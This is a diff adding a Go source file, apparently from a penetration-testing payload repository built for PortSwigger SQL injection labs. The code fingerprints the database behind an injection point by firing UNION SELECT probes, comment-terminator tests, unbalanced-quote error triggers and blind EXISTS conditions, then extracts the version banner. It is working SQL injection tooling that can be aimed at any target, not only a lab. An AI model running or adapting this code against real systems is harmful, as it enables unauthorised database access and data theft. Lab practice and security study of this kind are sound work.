@@ -0,0 +1,276 @@
+package sqli
+
+import (
+	"fmt"
+	"regexp"
+	"slices"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// Fingerprint is the DBMS recognised behind the injection point.
+type Fingerprint struct {
+	Product    string            `json:"product"`    // e.g. MariaDB or CockroachDB
+	Database   constant.Database `json:"-"`          // Dialect of the product, looked up again when loaded
+	Version    string            `json:"version"`    // Version number taken from the banner, e.g. 15.4
+	Banner     string            `json:"banner"`     // Full version string reported by the database
+	Confidence float64           `json:"confidence"` // Share of the product's checks that passed
+	Evidence   []string          `json:"evidence"`   // Checks that passed
+}
+
+func (f Fingerprint) String() string {
+	description := f.Product
+	if f.Version != "" {
+		description += " " + f.Version
+	}
+	return fmt.Sprintf("%s (confidence %.0f%%)", description, f.Confidence*100)
+}
+
+// FingerprintDB runs the behavioural checks of every known product (concatenation
+// semantics, specific functions, comment styles and error signatures) and returns
+// the product that passes the largest share of its checks, with its version banner.
+func FingerprintDB(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, oracle Oracle, columns ColumnMap) (Fingerprint, error) {
+	if len(columns.StringColumns()) == 0 {
+		return Fingerprint{}, fmt.Errorf("none of the %d columns accepts strings", columns.Count())
+	}
+
+	f := fingerprinter{
+		client:   client,
+		point:    point,
+		boundary: boundary,
+		oracle:   oracle,
+		columns:  columns,
+		results:  map[string]bool{},
+	}
+	best, err := f.best(constant.Products)
+	if err != nil {
+		return best, err
+	}
+	best.Banner, best.Version = f.version(best.Database)
+	return best, nil
+}
+
+// FingerprintByQuestions runs the value checks of the products as conditions asked through
+// the questioner, so targets that render no UNION column can be fingerprinted by any blind
+// technique. Comment checks need a UNION SELECT and are left out, and the version banner is
+// not read, as a blind extraction of it would cost more than the whole fingerprint.
+func FingerprintByQuestions(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, questioner Questioner, products []constant.Product) (Fingerprint, error) {
+	f := fingerprinter{
+		client:     client,
+		point:      point,
+		boundary:   boundary,
+		questioner: questioner,
+		results:    map[string]bool{},
+	}
+	return f.best(products)
+}
+
+// KnownFingerprint returns the fingerprint of a product named by the operator, matched
+// without regard to case, so the target does not have to be fingerprinted.
+func KnownFingerprint(name string) (Fingerprint, error) {
+	for _, product := range constant.Products {
+		if strings.EqualFold(product.Name, name) {
+			return Fingerprint{Product: product.Name, Database: product.Database, Confidence: 1, Evidence: []string{"named by the operator"}}, nil
+		}
+	}
+	names := make([]string, len(constant.Products))
+	for i, product := range constant.Products {
+		names[i] = product.Name
+	}
+	return Fingerprint{}, fmt.Errorf("unknown database product %q, expected one of %v", name, names)
+}
+
+type fingerprinter struct {
+	client     *utility.HTTPClient
+	point      InjectionPoint
+	boundary   Boundary
+	oracle     Oracle
+	columns    ColumnMap
+	questioner Questioner      // Asks checks as conditions instead of UNION SELECT probes when set
+	results    map[string]bool // Outcome of each probe, shared by products with common checks
+}
+
+// best scores the products and returns the one that passes the largest share of its checks.
+func (f fingerprinter) best(products []constant.Product) (Fingerprint, error) {
+	signature, err := f.errorPage()
+	if err != nil {
+		return Fingerprint{}, err
+	}
+
+	var best Fingerprint
+	for _, product := range products {
+		candidate, err := f.score(product, signature)
+		if err != nil {
+			return Fingerprint{}, err
+		}
+		logger.Debugf("%s passed %.0f%% of its checks: %v", product.Name, candidate.Confidence*100, candidate.Evidence)
+		if candidate.Confidence > best.Confidence {
+			best = candidate
+		}
+	}
+	if best.Confidence < constant.FINGERPRINT_MIN_CONFIDENCE {
+		return Fingerprint{}, fmt.Errorf("could not fingerprint the database, best guess %s", best)
+	}
+	if best.Database.Catalog.TablesView == "" {
+		return best, fmt.Errorf("%s detected, but its dialect is not supported", best)
+	}
+	return best, nil
+}
+
+// score runs the product's checks and returns the share that passed.
+func (f fingerprinter) score(product constant.Product, errorPage []byte) (Fingerprint, error) {
+	candidate := Fingerprint{Product: product.Name, Database: product.Database}
+	total, passed := 0, 0
+	pass := func(evidence string) {
+		passed++
+		candidate.Evidence = append(candidate.Evidence, evidence)
+	}
+
+	// The comment that terminates the detected boundary must be one the dialect understands
+	if f.boundary.Comment != "" {
+		total++
+		if slices.Contains(product.Database.Comment, f.boundary.Comment) {
+			pass(fmt.Sprintf("%q terminates the query", f.boundary.Comment))
+		}
+	}
+
+	if errorPage != nil {
+		total++
+		if product.ErrorSignature.Match(errorPage) {
+			pass("error message signature")
+		}
+	}
+
+	for _, check := range product.Checks {
+		if check.Comment != "" && f.questioner != nil {
+			continue
+		}
+		total++
+		ok, err := f.run(product.Database, check)
+		if err != nil {
+			return candidate, err
+		}
+		if ok {
+			pass(check.Description)
+		}
+	}
+	candidate.Confidence = float64(passed) / float64(total)
+	return candidate, nil
+}
+
+// run sends the probe of a check, or reuses the outcome of an identical probe.
+func (f fingerprinter) run(db constant.Database, check constant.FingerprintCheck) (bool, error) {
+	if check.Comment != "" {
+		accepted, err := f.commentWorks(check.Comment)
+		return accepted == check.Accepted, err
+	}
+
+	key := fmt.Sprintf("%s|%s|%s|%s|%t", db.Concatenation, check.Expression, check.Table, check.Expect, check.Fails)
+	if result, found := f.results[key]; found {
+		return result, nil
+	}
+
+	if f.questioner != nil {
+		result, err := f.ask(check)
+		f.results[key] = result
+		return result, err
+	}
+
+	works, value, err := f.selectValue(db, check.Expression, check.Table)
+	if err != nil {
+		return false, err
+	}
+	result := works && (check.Expect == "" || value == check.Expect)
+	if check.Fails {
+		result = !works
+	}
+	f.results[key] = result
+	return result, nil
+}
+
+// ask turns a value check into a condition that holds when the expression runs and, if the
+// check expects a value, equals it. A condition the database rejects is answered false like
+// one that does not hold, which is all a blind technique can tell.
+func (f fingerprinter) ask(check constant.FingerprintCheck) (bool, error) {
+	query := "SELECT " + check.Expression
+	if check.Table != "" {
+		query += " FROM " + check.Table
+	}
+	condition := fmt.Sprintf("EXISTS(%s)", query)
+	if check.Expect != "" && !check.Fails {
+		condition = fmt.Sprintf("(%s)=%s", query, constant.Quote(check.Expect))
+	}
+	holds, err := f.questioner.Ask(condition)
+	if check.Fails {
+		return !holds, err
+	}
+	return holds, err
+}
+
+// selectValue selects the expression through a UNION SELECT and reports whether the
+// query ran and what value it rendered. Without a reflected column only the first is known.
+func (f fingerprinter) selectValue(db constant.Database, expression string, table string) (bool, string, error) {
+	textColumn, err := f.columns.TextColumn()
+	if err != nil {
+		textColumn = f.columns.StringColumns()[0]
+	}
+	// Checks name their table explicitly, some test that a SELECT without one fails
+	db.DualTable = ""
+
+	marker := NewMarker()
+	union := payload.NewUnion(db, f.columns.Count()).Column(textColumn, marker.Wrap(db, expression)).From(table)
+	response, err := fetchResponse(f.client, f.point, f.boundary.Wrap(union.String()))
+	if err != nil {
+		return false, "", err
+	}
+	if !f.oracle.Evaluate(response) {
+		return false, "", nil
+	}
+	value, _ := marker.Find(response)
+	return true, value, nil
+}
+
+// commentWorks reports whether a UNION SELECT terminated by the comment style still runs.
+func (f fingerprinter) commentWorks(style string) (bool, error) {
+	key := "comment|" + style
+	if result, found := f.results[key]; found {
+		return result, nil
+	}
+
+	union := payload.NewUnion(constant.Database{}, f.columns.Count()).From(f.columns.DualTable)
+	response, err := fetchResponse(f.client, f.point, f.boundary.Prefix+union.String()+style)
+	if err != nil {
+		return false, err
+	}
+	f.results[key] = f.oracle.Evaluate(response)
+	return f.results[key], nil
+}
+
+// errorPage returns the body of a response to an unbalanced quote if it looks like a DBMS error.
+func (f fingerprinter) errorPage() ([]byte, error) {
+	response, err := fetchResponse(f.client, f.point, `'"`)
+	if err != nil {
+		return nil, err
+	}
+	for _, product := range constant.Products {
+		if product.ErrorSignature.Match(response.Body) {
+			return response.Body, nil
+		}
+	}
+	return nil, nil
+}
+
+// version reads the version banner and the version number in it. Both are empty
+// when no column is rendered in the page.
+func (f fingerprinter) version(db constant.Database) (string, string) {
+	banners, err := selectMarked(f.client, f.point, f.boundary, f.oracle, db, f.columns, db.VersionFunction, db.VersionTable, "")
+	if err != nil || len(banners) == 0 {
+		logger.Debugf("Could not read the version banner: %v", err)
+		return "", ""
+	}
+	return banners[0], regexp.MustCompile(constant.VERSION_PATTERN).FindString(banners[0])
+}